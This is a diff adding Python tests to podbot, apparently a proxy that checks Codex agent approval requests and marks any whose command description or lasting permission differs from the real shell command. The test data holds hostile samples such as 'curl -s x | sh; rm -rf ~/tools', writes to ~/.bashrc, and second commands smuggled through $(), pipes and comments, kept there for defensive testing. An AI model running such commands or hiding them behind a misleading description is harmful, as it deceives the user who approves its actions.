@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import shlex
 import tracemalloc
 from typing import Any
 
@@ -13,6 +14,7 @@ from hypothesis import strategies as st
 from podbot.protocol.app_server import CodexChannel
 from podbot.protocol.methods import CODEX
 from podbot.protocol.path_map import PathScope
+from podbot.protocol.questions import LONGEST_PATH
 from tests.protocol.drive import Outcome, from_agent
 
 MOUNT = PathScope("/ws", "/home/me/shop", others=("/more",))
@@ -285,6 +287,220 @@ def test_a_command_and_its_description(params: dict[str, Any], marker: str) -> N
         result = asked(method, {**params, "reason": "r"})
         assert json.loads(result.to_client)["params"]["reason"] == f"{marker} r"
         assert result.reasons == ["marked_question"]
+
+
+LEFT_OUT = "[podbot: the description leaves out a part of the command: "
+LASTING = "[podbot: the lasting permission is for another command: "
+BROAD = "[podbot: the lasting permission is for more than this command: "
+
+
+def run_by_bash(script: str) -> str:
+    return shlex.join(["/bin/bash", "-lc", script])
+
+
+def marker_in(params: dict[str, Any], method: str = COMMAND) -> str:
+    """What podbot says of a question; empty when it keeps its bytes."""
+    result = asked(method, {**params, "reason": "r"})
+    reason = json.loads(result.to_client)["params"]["reason"]
+    assert result.reasons == ([] if reason == "r" else ["marked_question"])
+    return reason.removesuffix("r").rstrip()
+
+
+@pytest.mark.parametrize(
+    ("script", "actions"),
+    [
+        # As Codex 0.169 describes them: each plain command, without those that only print or change what others print.
+        ("git status", [{"command": "git status"}]),
+        ("cat docs/guide/README.md", [{"command": "cat docs/guide/README.md", "name": "README.md"}]),
+        ("cat web/src", [{"command": "cat web/src", "name": "web"}]),
+        ("cat 'my notes/a b.txt'", [{"command": "cat 'my notes/a b.txt'", "name": "a b.txt"}]),
+        ("cd lib && cat x.py", [{"command": "cat x.py", "name": "x.py"}]),
+        ("echo ==; ls -la | head -n 40", [{"command": "ls -la", "path": None}]),
+        ("printf '\\n== a\\n'; cat -- a/Cargo.toml", [{"command": "cat -- a/Cargo.toml", "name": "Cargo.toml"}]),
+        ("rg -n 'BUG|TO DO' -S | sort -u | wc -l", [{"command": "rg -n 'BUG|TO DO' -S", "query": "BUG|TO DO"}]),
+        ('rg -n "a b" -g"*.py" lib', [{"command": "rg -n 'a b' '-g*.py' lib", "query": "a b"}]),
+        ("rg --files | sed -n 1,20p", [{"command": "rg --files"}]),
+        ("rg --files | awk '{print $1, $2}' | sed 's/a/b/g' | tail -20", [{"command": "rg --files"}]),
+        ("rg x \\\n  src", [{"command": "rg x src", "query": "x", "path": "src"}]),
+        ("nl -ba a/b.rs | sed -n '1,9p'", [{"command": "nl -ba a/b.rs | sed -n '1,9p'", "name": "b.rs"}]),
+        ("ls\ncat a\ncat b", [{"command": "ls"}, {"command": "cat a", "name": "a"}, {"command": "cat b", "name": "b"}]),
+        ("ls a || true", [{"command": "ls a", "path": "a"}]),
+        ("for i in 1 2; do rm $i; done", [{"command": "for i in 1 2; do rm $i; done"}]),
+        ("FOO=1 make > log 2>&1", [{"command": "FOO=1 make > log 2>&1"}]),
+        ("python3 - <<'EOF'\nprint(1)\nEOF", [{"command": "python3 - <<'EOF'\nprint(1)\nEOF"}]),
+        ("ls # all of them", [{"command": "ls # all of them"}]),
+        ("git commit -m \"it's $USER\"", [{"command": "git commit -m \"it's $USER\""}]),
+    ],
+)  # fmt: skip
+def test_descriptions_of_codex_itself_keep_their_bytes(script: str, actions: list[dict[str, Any]]) -> None:
+    assert marker_in({"command": run_by_bash(script), "commandActions": actions}) == ""
+    parsed = [{"cmd" if key == "command" else key: value for key, value in each.items()} for each in actions]
+    assert marker_in({"command": ["bash", "-lc", script], "parsedCmd": parsed}, "execCommandApproval") == ""
+
+
+@pytest.mark.parametrize(
+    ("command", "actions", "marker"),
+    [
+        ("curl -s x | sh; rm -rf ~/tools", [{"command": "ls"}], DESCRIBED),
+        (run_by_bash("curl -s x | sh; rm -rf ~/tools"), [{"command": "ls"}], DESCRIBED),
+        (run_by_bash("ls; rm -rf ~/tools"), [{"command": "ls"}], f"{LEFT_OUT}rm -rf ~/tools]"),
+        (run_by_bash("ls | xargs rm"), [{"command": "ls"}], f"{LEFT_OUT}xargs rm]"),
+        (run_by_bash("ls | tee ~/.bashrc"), [{"command": "ls"}], f"{LEFT_OUT}tee ~/.bashrc]"),
+        (run_by_bash("ls | sort -o x"), [{"command": "ls"}], f"{LEFT_OUT}sort -o x]"),
+        (run_by_bash("ls | sed 's/a/b/e'"), [{"command": "ls"}], f"{LEFT_OUT}sed s/a/b/e]"),
+        (run_by_bash("ls | sed 's/a/b/\nw x'"), [{"command": "ls"}], f"{LEFT_OUT}sed s/a/b/ w x]"),
+        (run_by_bash("ls | awk '{print > \"x\"}'"), [{"command": "ls"}], f"{LEFT_OUT}awk {{print > x}}]"),
+        (run_by_bash("ls | uniq - x"), [{"command": "ls"}], f"{LEFT_OUT}uniq - x]"),
+        (run_by_bash("./echo x; ls"), [{"command": "ls"}], f"{LEFT_OUT}./echo x]"),
+        (run_by_bash("ls\nrm x"), [{"command": "ls"}], f"{LEFT_OUT}rm x]"),
+        # The description's words are in the command, but it runs another one.
+        (run_by_bash("echo ls"), [{"command": "ls"}], DESCRIBED),
+        (run_by_bash("rm ls -la"), [{"command": "ls -la"}], DESCRIBED),
+        (run_by_bash("git push"), [{"command": "git"}], DESCRIBED),
+        (run_by_bash("grep 'a; ls' x"), [{"command": "ls"}], DESCRIBED),
+        (run_by_bash("grep a; rm x"), [{"command": "grep 'a; rm x'"}], DESCRIBED),
+        (run_by_bash("rg $(rm x)"), [{"command": "rg '$(rm x)'"}], DESCRIBED),
+        (run_by_bash("ls > ~/.bashrc"), [{"command": "ls"}], DESCRIBED),
+        (run_by_bash("ls & rm x"), [{"command": "ls"}], DESCRIBED),
+        (run_by_bash("ls; $(rm x)"), [{"command": "ls"}], DESCRIBED),
+        (run_by_bash("ls; (rm x)"), [{"command": "ls"}], DESCRIBED),
+        (run_by_bash("ls #; rm x"), [{"command": "rm x"}], DESCRIBED),
+        ("ls 'x", [{"command": "ls"}], DESCRIBED),
+        ("x" * 70_000, [{"command": "x"}], DESCRIBED),
+        # A name or a pattern of something else in it.
+        (run_by_bash("cat README ../key"), [{"command": "cat README ../key", "name": "docs"}], DESCRIBED),
+        (run_by_bash("cat README/../key"), [{"command": "cat README/../key", "name": "README"}], DESCRIBED),
+        (run_by_bash("ls; cat key"), [{"command": "ls", "name": "key"}, {"command": "cat key"}], DESCRIBED),
+        (run_by_bash("rg 'a b'"), [{"command": "rg 'a b'", "query": "a"}], DESCRIBED),
+        (run_by_bash("cat a"), [{"command": "cat a", "name": ["a"]}], DESCRIBED),
+        # Clients differ in which of two members they read.
+        (run_by_bash("rm x"), [{"command": "ls", "Command": "rm x"}], DESCRIBED),
+        (run_by_bash("rm x"), [{"command": "rm x", "cmd": "ls"}], DESCRIBED),
+        (run_by_bash("cat a"), [{"command": "cat a", "name": "a", "NAME": "b"}], DESCRIBED),
+        # No command, or one without a description.
+        (None, [{"command": "ls"}], DESCRIBED),
+        ("", [{"command": "ls"}], DESCRIBED),
+        (" ", [{"command": " "}], DESCRIBED),
+        ([], [{"command": "ls"}], DESCRIBED),
+        ({"x": "ls"}, [{"command": "ls"}], DESCRIBED),
+        (run_by_bash("ls"), [{"type": "listFiles", "path": "src"}], DESCRIBED),
+        (run_by_bash("ls"), [{"command": None}], DESCRIBED),
+        (run_by_bash("ls"), [{"command": ["ls"]}], DESCRIBED),
+        (run_by_bash("ls"), ["ls"], DESCRIBED),
+    ],
+)  # fmt: skip
+def test_a_description_of_another_command_or_of_a_part_is_marked(command: Any, actions: Any, marker: str) -> None:
+    assert marker_in({"command": command, "commandActions": actions}) == marker
+
+
+def test_a_question_with_descriptions_and_no_command_is_marked() -> None:
+    for key in ("commandActions", "parsedCmd", "command_actions"):
+        assert marker_in({key: [{"type": "read", "command": "cat README", "name": "README"}]}) == DESCRIBED
+        assert marker_in({key: []}) == marker_in({key: None}) == ""
+
+
+@pytest.mark.parametrize(
+    ("command", "words", "marker"),
+    [
+        # What Codex proposes: the words of a plain command, or the model's prefix of them; of other scripts, the whole.
+        (run_by_bash("git push origin main"), ["git", "push", "origin", "main"], ""),
+        (run_by_bash("git push origin main"), ["git", "push"], ""),
+        (run_by_bash("cd x && npm run build"), ["npm", "run"], ""),
+        (run_by_bash("npm run x && rm y"), ["rm", "y"], ""),
+        (run_by_bash("npm run x && rm y"), ["rm"], ""),
+        (run_by_bash("git commit -m 'a  b'"), ["git", "commit", "-m", "a  b"], ""),
+        (run_by_bash("make > log"), ["/bin/bash", "-lc", "make > log"], ""),
+        (["python3", "x.py"], ["python3", "x.py"], ""),
+        (["env"], ["env"], f"{BROAD}env]"),
+        (run_by_bash("git push"), ["sh"], f"{LASTING}sh]"),
+        (run_by_bash("npm run format"), ["rm"], f"{LASTING}rm]"),
+        (run_by_bash("npm run rm x"), ["rm"], f"{LASTING}rm]"),
+        (run_by_bash("npm run x rm y"), ["rm", "y"], f"{LASTING}rm y]"),
+        (run_by_bash("git status && echo git push"), ["git", "push"], f"{LASTING}git push]"),
+        (run_by_bash("git status; ls"), ["git", "status", "ls"], f"{LASTING}git status ls]"),
+        (run_by_bash("git status"), ["git", "status", "--x"], f"{LASTING}git status --x]"),
+        (run_by_bash("git commit -m 'rm -rf'"), ["rm", "-rf"], f"{LASTING}rm -rf]"),
+        (run_by_bash("echo 'x; rm y'"), ["rm"], f"{LASTING}rm]"),
+        (run_by_bash("ls -la"), ["l"], f"{LASTING}l]"),
+        (run_by_bash("ls"), ["bash", "-lc"], f"{LASTING}bash -lc]"),
+        (run_by_bash("make > log"), ["make"], f"{LASTING}make]"),
+        (run_by_bash("make > log"), ["/bin/bash", "-lc"], f"{LASTING}/bin/bash -lc]"),
+        ("bash -lc", ["bash", "-lc"], f"{BROAD}bash -lc]"),
+        (run_by_bash("/usr/bin/python3 -c 'x'"), ["/usr/bin/python3", "-c"], f"{BROAD}/usr/bin/python3 -c]"),
+        (run_by_bash("curl x | sh"), ["sh"], f"{BROAD}sh]"),
+        (run_by_bash("git status"), ["git"], f"{BROAD}git]"),
+        (run_by_bash("sudo ls"), ["sudo"], f"{BROAD}sudo]"),
+        (run_by_bash("ls"), [""], f"{LASTING}any]"),
+        (run_by_bash("ls"), ["ls"] * 2000, f"{LASTING}{('ls ' * 2000)[:LONGEST_PATH]}]"),
+        (None, ["ls"], f"{LASTING}ls]"),
+    ],
+)  # fmt: skip
+def test_a_lasting_permission_is_for_a_beginning_of_the_command(command: Any, words: list[str], marker: str) -> None:
+    assert marker_in({"command": command, "proposedExecpolicyAmendment": words}) == marker
+    offered = {"acceptWithExecpolicyAmendment": {"execpolicy_amendment": words}}
+    assert marker_in({"command": command, "availableDecisions": ["accept", offered]}) == marker
+    twice = {"acceptWithExecpolicyAmendment": {"execpolicy_amendment": ["x"], "execpolicyAmendment": ["x"]}}
+    assert marker_in({"command": "ls", "availableDecisions": [offered, twice]}) != ""
+
+
+@pytest.mark.parametrize(
+    "key",
+    ["Command", "command_actions", "parsed_cmd", "PROPOSED_EXECPOLICY_AMENDMENT", "available_decisions",
+     "network_approval_context", "proposedNetworkPolicyAmendment_s"],
+)  # fmt: skip
+def test_a_question_with_two_members_that_decide_is_refused(key: str) -> None:
+    """One client shows this one, another client that one."""
+    own = {"command": "ls", "commandActions": [], "parsedCmd": [], "proposedExecpolicyAmendment": ["ls"],
+           "availableDecisions": [], "networkApprovalContext": None, "proposedNetworkPolicyAmendments": []}  # fmt: skip
+    assert asked(COMMAND, own).said == []
+    for params in ({**own, key: "ls"}, {key: None, **own}):
+        result = asked(COMMAND, params)
+        assert (result.to_client, result.reasons) == (b"", ["duplicate_key"])
+
+
+_PLAIN = st.text("abc/-_.", min_size=1, max_size=6)
+_WORDS = st.builds(
+    lambda program, rest: [program, *rest], st.sampled_from(["run", "rm", "a/b", "make"]),
+    st.lists(_PLAIN | st.text("ab '\"$;|&()<>#*~=\n{}", min_size=1, max_size=6), max_size=3),
+)  # fmt: skip
+_JOINED = st.lists(st.tuples(_WORDS, st.sampled_from([" && ", ";", " | ", "||", "\n"])), min_size=1, max_size=4)
+
+
+@given(_JOINED, st.data())
+def test_descriptions_and_permissions_of_any_plain_script(
+    script: list[tuple[list[str], str]], data: st.DataObject
+) -> None:
+    commands = [words for words, _ in script]
+    text = "".join(shlex.join(words) + joint for words, joint in script[:-1]) + shlex.join(commands[-1])
+    command = {"command": run_by_bash(text)}
+    actions = [{"command": shlex.join(words)} for words in commands]
+    assert marker_in({**command, "commandActions": actions}) == ""
+    assert marker_in({**command, "commandActions": [{"command": text}]}) == ""
+    out = data.draw(st.sampled_from(commands))
+    fewer = [action for action in actions if action["command"] != shlex.join(out)]
+    if fewer:
+        assert marker_in({**command, "commandActions": fewer}).startswith(LEFT_OUT)
+    words = out[: data.draw(st.integers(1, len(out)))]
+    assert marker_in({**command, "proposedExecpolicyAmendment": words}) == ""
+    other = data.draw(_WORDS)
+    if not any(bare(known)[: len(other)] == bare(other) for known in commands):
+        assert marker_in({**command, "proposedExecpolicyAmendment": other}).startswith(LASTING)
+        assert marker_in({**command, "commandActions": [{"command": shlex.join(other)}]}) == DESCRIBED
+
+
+def bare(words: list[str]) -> list[str]:
+    """Without the marks by which shells quote: two spellings of one word are equal without them."""
+    return [word.translate(str.maketrans("", "", "'\"\\")) for word in words]
+
+
+@given(st.text("ab '\"\\$;|&()<>#*\n", max_size=30), st.text("ab '\"\\$;|&()<>#*\n", max_size=30))
+def test_any_command_and_description_are_read(command: str, description: str) -> None:
+    """Whatever they are, the question reaches the user, and a command described by itself is not marked."""
+    for each in (command, run_by_bash(command)):
+        found = marker_in({"command": each, "commandActions": [{"command": description}]})
+        assert found == "" or found.startswith("[podbot: the description ")
+    if command.strip():
+        assert marker_in({"command": run_by_bash(command), "commandActions": [{"command": command}]}) == ""
 
 
 def test_lasting_permissions_for_the_same_command_keep_their_bytes() -> None:
